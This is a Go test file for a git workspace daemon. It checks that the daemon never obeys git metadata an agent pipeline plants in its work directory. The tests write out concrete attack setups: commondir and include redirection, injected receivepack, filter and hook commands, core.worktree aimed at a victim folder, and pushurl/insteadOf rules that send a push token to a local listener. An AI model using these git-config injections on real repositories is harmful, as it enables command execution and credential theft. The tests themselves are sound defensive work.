package gitws

import (
	"encoding/base64"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// The attacks below are what a pipeline, which owns the work dir, can
// write there between the daemon's git steps. Each test
// names the git CVE whose class of vector it covers where there is one.

// markerCmd is a shell command, as git runs uploadpack/receivepack/filters,
// that leaves marker behind and then does what git asked (prog, if any),
// quoted for a config file.
func markerCmd(marker, prog string) string {
	cmd := "touch " + marker
	if prog != "" {
		cmd += "; exec " + prog + ` "$@"`
	}
	return quoteConfig("sh -c '" + cmd + "' x")
}

// plantCommondir is the attack: <work>/.git is copied to
// <work>/.git/x and .git/commondir names it, so git takes config, refs and
// objects from .git/x, whatever is written to .git/config. extra is added
// to .git/x/config.
func plantCommondir(t *testing.T, work, extra string) {
	t.Helper()
	gd := filepath.Join(work, ".git")
	tmp := filepath.Join(t.TempDir(), "x")
	if out, err := exec.Command("cp", "-a", gd, tmp).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v: %s", err, out)
	}
	if err := os.Rename(tmp, filepath.Join(gd, "x")); err != nil {
		t.Fatal(err)
	}
	write(t, gd, "commondir", "x\n")
	appendFile(t, filepath.Join(gd, "x", "config"), extra)
}

func appendFile(t *testing.T, path, s string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(s); err != nil {
		t.Fatal(err)
	}
}

func mustNotExist(t *testing.T, path, what string) {
	t.Helper()
	if _, err := os.Lstat(path); err == nil {
		t.Errorf("%s: %s exists", what, path)
	}
}

// The daemon's git never reads config the pipeline wrote in the work
// dir's .git, whichever way git could be led to it: .git/commondir (the
// reported attack), extensions.worktreeConfig with config.worktree,
// include.path and includeIf (the mechanism of CVE-2023-29007's injected
// config), core.hooksPath, a filter driver named by the tree's
// .gitattributes. Evidence: marker files written by the commands the
// config names (receivepack runs on Save's push, uploadpack on Prepare's
// fetch, the filter on Save's add), and the push landing where configured.
func TestPipelineGitMetadataIsNeverRead(t *testing.T) {
	t.Parallel()
	const branch = "agent-smith/26"
	cases := map[string]func(t *testing.T, work, m string) string{
		"commondir": func(t *testing.T, work, m string) string {
			return "[remote \"origin\"]\n\tuploadpack = " + markerCmd(m+"-upload", "git-upload-pack") +
				"\n\treceivepack = " + markerCmd(m+"-receive", "git-receive-pack") + "\n"
		},
		"commondir+config.worktree": func(t *testing.T, work, m string) string {
			write(t, filepath.Join(work, ".git"), "config.worktree", "[remote \"origin\"]\n\treceivepack = "+markerCmd(m+"-receive", "git-receive-pack")+"\n")
			return "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n"
		},
		"commondir+include.path": func(t *testing.T, work, m string) string {
			inc := filepath.Join(work, "evil.cfg")
			write(t, work, "evil.cfg", "[remote \"origin\"]\n\treceivepack = "+markerCmd(m+"-receive", "git-receive-pack")+"\n")
			return "[include]\n\tpath = " + inc + "\n"
		},
		"commondir+includeIf": func(t *testing.T, work, m string) string {
			write(t, work, "evil.cfg", "[remote \"origin\"]\n\treceivepack = "+markerCmd(m+"-receive", "git-receive-pack")+"\n")
			return "[includeIf \"gitdir:/\"]\n\tpath = " + filepath.Join(work, "evil.cfg") + "\n"
		},
		"commondir+hooksPath": func(t *testing.T, work, m string) string {
			hooks := filepath.Join(work, "hooks")
			for _, h := range []string{"post-commit", "pre-push", "reference-transaction", "post-checkout"} {
				if err := os.MkdirAll(hooks, 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(hooks, h), []byte("#!/bin/sh\ntouch "+m+"-hook\n"), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			return "[core]\n\thooksPath = " + hooks + "\n"
		},
		"commondir+filter": func(t *testing.T, work, m string) string {
			write(t, work, ".gitattributes", "* filter=x diff=x\n")
			return "[filter \"x\"]\n\tclean = " + markerCmd(m+"-filter", "cat") + "\n\tsmudge = " + markerCmd(m+"-filter", "cat") +
				"\n[diff \"x\"]\n\ttextconv = " + markerCmd(m+"-textconv", "cat") + "\n\tcommand = " + markerCmd(m+"-diff", "") +
				"\n[core]\n\tfsmonitor = " + markerCmd(m+"-fsmonitor", "") + "\n"
		},
	}
	for name, plant := range cases {
		t.Run(name, func(t *testing.T) {
			bare := remote(t)
			r := newRepo(t, Config{URL: bare})
			d := newDirs(t)
			if _, err := prepare(ctx(t), r, d, branch); err != nil {
				t.Fatal(err)
			}
			m := filepath.Join(t.TempDir(), "ran")
			plantCommondir(t, d.Work, plant(t, d.Work, m))
			write(t, d.Work, "work.txt", "work\n")
			if _, err := save(ctx(t), r, d, branch, "attempt 1"); err != nil {
				t.Fatal(err)
			}
			if _, err := prepare(ctx(t), r, d, branch); err != nil {
				t.Fatal(err)
			}
			for _, s := range []string{"-upload", "-receive", "-hook", "-filter", "-textconv", "-diff", "-fsmonitor"} {
				mustNotExist(t, m+s, "a command from the pipeline's git config ran")
			}
			if got := run(t, bare, "show", branch+":work.txt"); got != "work" {
				t.Fatalf("remote work.txt = %q", got)
			}
		})
	}
}

// core.worktree in config the pipeline wrote (config.worktree, enabled
// through commondir) would
// point the daemon's add --all at another directory: its files, read with
// the daemon's rights, would be committed and pushed.
func TestCoreWorktreeFromThePipelineIsNeverRead(t *testing.T) {
	t.Parallel()
	const branch = "agent-smith/27"
	bare := remote(t)
	r := newRepo(t, Config{URL: bare})
	d := newDirs(t)
	if _, err := prepare(ctx(t), r, d, branch); err != nil {
		t.Fatal(err)
	}
	victim := t.TempDir()
	write(t, victim, "secret.txt", "daemon-only\n")
	// core.worktree is per-worktree config: git takes it from
	// config.worktree once the common config enables that.
	write(t, filepath.Join(d.Work, ".git"), "config.worktree", "[core]\n\tworktree = "+victim+"\n")
	plantCommondir(t, d.Work, "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n")
	write(t, d.Work, "work.txt", "work\n")
	if _, err := save(ctx(t), r, d, branch, "attempt 1"); err != nil {
		t.Fatal(err)
	}
	files := run(t, bare, "ls-tree", "-r", "--name-only", branch)
	if strings.Contains(files, "secret.txt") || !strings.Contains(files, "work.txt") {
		t.Fatalf("pushed tree:\n%s", files)
	}
	if read(t, victim, "secret.txt") != "daemon-only\n" {
		t.Fatal("the victim dir changed")
	}
}

// capture is a local HTTP listener that records the Authorization headers
// it was sent.
type capture struct {
	mu   sync.Mutex
	auth []string
	hits int
}

func (c *capture) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	c.mu.Lock()
	c.hits++
	if a := req.Header.Get("Authorization"); a != "" {
		c.auth = append(c.auth, a)
	}
	c.mu.Unlock()
	http.NotFound(w, req)
}

func (c *capture) seen() (int, []string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.hits, append([]string(nil), c.auth...)
}

// httpRemote serves bare over smart HTTP (git http-backend), requiring the
// token; it returns the URL.
func httpRemote(t *testing.T, bare, wantAuth string) string {
	t.Helper()
	execPath := run(t, t.TempDir(), "--exec-path")
	backend := &cgi.Handler{Path: filepath.Join(execPath, "git-http-backend"),
		Env: []string{"GIT_PROJECT_ROOT=" + filepath.Dir(bare), "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=agent"}}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.Header.Get("Authorization") != wantAuth {
			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return
		}
		backend.ServeHTTP(w, req)
	}))
	t.Cleanup(srv.Close)
	run(t, bare, "config", "http.receivepack", "true")
	return srv.URL + "/" + filepath.Base(bare)
}

// The reported token theft: a pushurl (or url.insteadOf) in config the
// pipeline wrote through commondir sent the daemon's push, with its
// Authorization header, to the pipeline's listener.
func TestPushTokenNeverReachesThePipelinesURL(t *testing.T) {
	t.Parallel()
	for name, extra := range map[string]func(evil, real string) string{
		"pushurl":   func(evil, _ string) string { return "[remote \"origin\"]\n\tpushurl = " + evil + "\n" },
		"insteadOf": func(evil, real string) string { return "[url \"" + evil + "\"]\n\tpushInsteadOf = " + real + "\n" },
	} {
		t.Run(name, func(t *testing.T) {
			const branch, token = "agent-smith/28", "ghp_s3cr3t-token-value"
			bare := remote(t)
			want := "Basic " + basicAuth(DefaultTokenUser, token)
			url := httpRemote(t, bare, want)
			evil := &capture{}
			evilSrv := httptest.NewServer(evil)
			t.Cleanup(evilSrv.Close)
			r := newRepo(t, Config{URL: url, Token: token})
			d := newDirs(t)
			if _, err := prepare(ctx(t), r, d, branch); err != nil {
				t.Fatal(err)
			}
			plantCommondir(t, d.Work, extra(evilSrv.URL+"/steal.git", url))
			write(t, d.Work, "work.txt", "work\n")
			_, err := save(ctx(t), r, d, branch, "attempt 1")
			if hits, auth := evil.seen(); hits > 0 || len(auth) > 0 {
				t.Fatalf("the pipeline's listener got %d requests, Authorization %q", hits, auth)
			}
			if err != nil {
				t.Fatal(err)
			}
			if got := run(t, bare, "show", branch+":work.txt"); got != "work" {
				t.Fatalf("remote work.txt = %q", got)
			}
		})
	}
}

// Without run_as the pipeline runs as the daemon's user and can write its
// ~/.gitconfig: the daemon's git reads no global (or system) config.
func TestGlobalConfigIsNeverRead(t *testing.T) {
	const branch = "agent-smith/29"
	bare := remote(t)
	evil := filepath.Join(t.TempDir(), "evil.git")
	run(t, filepath.Dir(evil), "init", "--quiet", "--bare", evil)
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	r := newRepo(t, Config{URL: bare})
	d := newDirs(t)
	if _, err := prepare(ctx(t), r, d, branch); err != nil {
		t.Fatal(err)
	}
	write(t, home, ".gitconfig", "[url \""+evil+"\"]\n\tpushInsteadOf = "+bare+"\n")
	write(t, d.Work, "work.txt", "work\n")
	if _, err := save(ctx(t), r, d, branch, "attempt 1"); err != nil {
		t.Fatal(err)
	}
	if refs := run(t, evil, "for-each-ref"); refs != "" {
		t.Fatalf("the push went to the pipeline's remote: %s", refs)
	}
	if got := run(t, bare, "show", branch+":work.txt"); got != "work" {
		t.Fatalf("remote work.txt = %q", got)
	}
}

// Symlinks the pipeline plants at .git/config and .git/info must not turn
// the daemon's writes into writes of files it alone may touch.
func TestPlantedSymlinksInGitAreNotWrittenThrough(t *testing.T) {
	t.Parallel()
	const branch = "agent-smith/30"
	bare := remote(t)
	r := newRepo(t, Config{URL: bare})
	d := newDirs(t)
	if _, err := prepare(ctx(t), r, d, branch); err != nil {
		t.Fatal(err)
	}
	victims := t.TempDir()
	write(t, victims, "shadow", "root only\n")
	vdir := filepath.Join(victims, "dir")
	if err := os.Mkdir(vdir, 0o700); err != nil {
		t.Fatal(err)
	}
	gd := filepath.Join(d.Work, ".git")
	for _, p := range []string{"config", "info"} {
		if err := os.RemoveAll(filepath.Join(gd, p)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(filepath.Join(victims, "shadow"), filepath.Join(gd, "config")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(vdir, filepath.Join(gd, "info")); err != nil {
		t.Fatal(err)
	}
	write(t, d.Work, "work.txt", "work\n")
	_, saveErr := save(ctx(t), r, d, branch, "attempt 1")
	_, prepErr := prepare(ctx(t), r, d, branch)
	if got := read(t, victims, "shadow"); got != "root only\n" {
		t.Errorf("the file behind .git/config was written:\n%s", got)
	}
	mustNotExist(t, filepath.Join(vdir, "exclude"), "a write through .git/info")
	if saveErr != nil || prepErr != nil {
		t.Fatalf("save: %v; prepare: %v", saveErr, prepErr)
	}
}

// The pipeline swaps its .git between Prepare and Save for a symlink or a
// gitfile to another repository, or removes it: the daemon's Save neither
// uses that repository (CVE-2022-24765's class: a .git somebody else
// placed) nor fails, and pushes the work on the branch's history.
func TestSwappedGitIsNeverUsed(t *testing.T) {
	t.Parallel()
	for _, swap := range []string{"symlink", "gitfile", "removed"} {
		t.Run(swap, func(t *testing.T) {
			const branch = "agent-smith/31"
			bare := remote(t)
			r := newRepo(t, Config{URL: bare})
			d := newDirs(t)
			p, err := prepare(ctx(t), r, d, branch)
			if err != nil {
				t.Fatal(err)
			}
			other := filepath.Join(t.TempDir(), "other")
			run(t, filepath.Dir(other), "init", "--quiet", other)
			gd := filepath.Join(d.Work, ".git")
			if err := os.RemoveAll(gd); err != nil {
				t.Fatal(err)
			}
			switch swap {
			case "symlink":
				if err := os.Symlink(filepath.Join(other, ".git"), gd); err != nil {
					t.Fatal(err)
				}
			case "gitfile":
				write(t, d.Work, ".git", "gitdir: "+filepath.Join(other, ".git")+"\n")
			}
			write(t, d.Work, "work.txt", "work\n")
			if _, err := save(ctx(t), r, d, branch, "attempt 1"); err != nil {
				t.Fatal(err)
			}
			if refs := run(t, other, "for-each-ref"); refs != "" {
				t.Fatalf("the swapped-in repository got refs: %s", refs)
			}
			run(t, bare, "merge-base", "--is-ancestor", p.Head, branch)
			if got := run(t, bare, "show", branch+":work.txt"); got != "work" {
				t.Fatalf("remote work.txt = %q", got)
			}
		})
	}
}

// A directory with a .git of its own in the work tree (a repository the
// pipeline cloned or made) is not committed as a gitlink: that commit
// would point at history nobody else has. Its files stay in the work dir.
func TestNestedRepositoryIsNotCommitted(t *testing.T) {
	t.Parallel()
	const branch = "agent-smith/32"
	bare := remote(t)
	r := newRepo(t, Config{URL: bare})
	d := newDirs(t)
	if _, err := prepare(ctx(t), r, d, branch); err != nil {
		t.Fatal(err)
	}
	nested := filepath.Join(d.Work, "vendor", "lib")
	if err := os.MkdirAll(nested, 0o755); err != nil {
		t.Fatal(err)
	}
	run(t, nested, "init", "--quiet")
	write(t, nested, "lib.go", "package lib\n")
	run(t, nested, "add", "lib.go")
	run(t, nested, "commit", "--quiet", "-m", "nested")
	write(t, d.Work, "work.txt", "work\n")
	if _, err := save(ctx(t), r, d, branch, "attempt 1"); err != nil {
		t.Fatal(err)
	}
	if tree := run(t, bare, "ls-tree", "-r", branch); strings.Contains(tree, "160000") || !strings.Contains(tree, "work.txt") {
		t.Fatalf("pushed tree:\n%s", tree)
	}
	if read(t, nested, "lib.go") != "package lib\n" {
		t.Fatal("the nested repository's files changed")
	}
}

func basicAuth(user, pass string) string {
	return base64.StdEncoding.EncodeToString([]byte(user + ":" + pass))
}
